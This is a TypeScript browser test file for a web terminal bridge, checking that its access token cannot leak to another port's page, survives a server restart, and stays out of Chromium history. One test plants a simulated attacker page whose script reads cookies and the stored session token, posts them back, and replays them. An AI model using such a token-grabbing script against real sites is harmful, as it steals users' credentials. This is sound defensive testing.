// The page's credential in Chromium: no ambient cookie another port's page could read or replay, a reload after a server restart with the same token, and no token in the browser's history.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import http from 'node:http';
import type net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { launch, waitForScreen } from './helpers/browser.js';
import { startPtyb } from './helpers/ptyb.js';
import { openWs } from './helpers/ws.js';

const TOKEN = 'credential-test-Zq81';
const SHELL = 'exec:/bin/sh?env=PS1=$%20';

/** A page on another port of the same host, as a local user could run: it records what the browser sends it and what its script can read. */
async function otherPort(): Promise<{ url: string; cookies: string[]; seen: Promise<{ cookie: string; stored: string | null; keys: number }>; close(): void }> {
  const cookies: string[] = [];
  let report!: (r: { cookie: string; stored: string | null; keys: number }) => void;
  const seen = new Promise<{ cookie: string; stored: string | null; keys: number }>((r) => (report = r));
  const server = http.createServer((req, res) => {
    cookies.push(String(req.headers.cookie ?? ''));
    if (req.url === '/report') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c));
      req.on('end', () => {
        report(JSON.parse(body));
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(`<!doctype html><script>
fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, stored: sessionStorage.getItem('ptybridge-token'), keys: sessionStorage.length }) });
</script>`);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}/`, cookies, seen, close: () => server.close() };
}

test("another port's page gets no credential: no cookie is sent to it or readable by it, and what it got opens nothing", { timeout: 60_000 }, async () => {
  const pb = await startPtyb([SHELL, `ws-listen:0?token=${TOKEN}`]);
  const attacker = await otherPort();
  const browser = await launch();
  try {
    const port = pb.listening[0]!.port;
    const context = await browser.newContext();
    const page = await context.newPage();
    // An old-style link with ?token= (still accepted): the page is open and connected.
    await page.goto(`http://127.0.0.1:${port}/?token=${TOKEN}`);
    await page.waitForSelector('#status.connected');
    assert.deepEqual(await context.cookies(), [], 'the browser holds no cookie for the console');
    // The victim, in the same browser, opens the other port's page.
    const evil = await context.newPage();
    await evil.goto(attacker.url);
    const seen = await attacker.seen;
    assert.deepEqual(seen, { cookie: '', stored: null, keys: 0 });
    assert.ok(
      attacker.cookies.every((c) => c === ''),
      `cookies sent to another port: ${attacker.cookies.join(' | ')}`,
    );
    // Replay: whatever it got, presented from outside the browser (no Origin to refuse).
    const replay = attacker.cookies.filter(Boolean).join('; ');
    await assert.rejects(openWs(`ws://127.0.0.1:${port}/`, { headers: replay ? { Cookie: replay } : {} }), { status: 401 });
  } finally {
    await browser.close();
    attacker.close();
    await pb.stop();
  }
});

test('a reload after the server restarted with the same token ($PTYBRIDGE_TOKEN) reconnects: the tab kept the token', { timeout: 90_000 }, async () => {
  const env = { ...process.env, PTYBRIDGE_TOKEN: TOKEN };
  let pb = await startPtyb([SHELL, 'ws-listen:0'], { env });
  const port = pb.listening[0]!.port;
  const browser = await launch();
  try {
    const page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${port}/?token=${TOKEN}`);
    await page.waitForSelector('#status.connected');
    assert.equal(page.url(), `http://127.0.0.1:${port}/`, 'the token left the address bar');
    await pb.stop();
    pb = await startPtyb([SHELL, `ws-listen:${port}`], { env });
    await page.reload();
    await page.waitForSelector('#status.connected');
    await page.locator('.xterm').click();
    await page.keyboard.type('echo after-$((40+2))\n');
    await waitForScreen(page, /^after-42$/m);
  } finally {
    await browser.close();
    await pb.stop();
  }
});

test("the token given in the page's box is in none of the browser's History files, across a reload", { timeout: 90_000 }, async () => {
  const pb = await startPtyb([SHELL, `ws-listen:0?token=${TOKEN}`]);
  const profile = mkdtempSync(path.join(tmpdir(), 'ptyb-profile-'));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-sync'],
  });
  try {
    const port = pb.listening[0]!.port;
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${port}/`);
    // Without a token the page asks for it.
    await page.waitForSelector('#token-form:not([hidden])');
    await page.fill('#token-form input', TOKEN);
    await page.click('#token-form button');
    await page.waitForSelector('#status.connected');
    await page.reload();
    await page.waitForSelector('#status.connected');
    await page.locator('.xterm').click();
    await page.keyboard.type('echo in-$((6*7))\n');
    await waitForScreen(page, /^in-42$/m);
    await context.close(); // History is written out
    const urls = execFileSync('sqlite3', [path.join(profile, 'Default', 'History'), 'select url from urls']).toString();
    assert.match(urls, new RegExp(`^http://127\\.0\\.0\\.1:${port}/$`, 'm'), `the visit is in History: ${urls}`);
    for (const f of readdirSync(path.join(profile, 'Default'), { recursive: true, withFileTypes: true })) {
      if (!f.isFile() || !/^History/.test(f.name)) continue;
      assert.ok(!readFileSync(path.join(f.parentPath ?? f.path, f.name)).includes(TOKEN), `the token is in ${f.name}`);
    }
  } finally {
    await context.close().catch(() => {});
    rmSync(profile, { recursive: true, force: true });
    await pb.stop();
  }
});
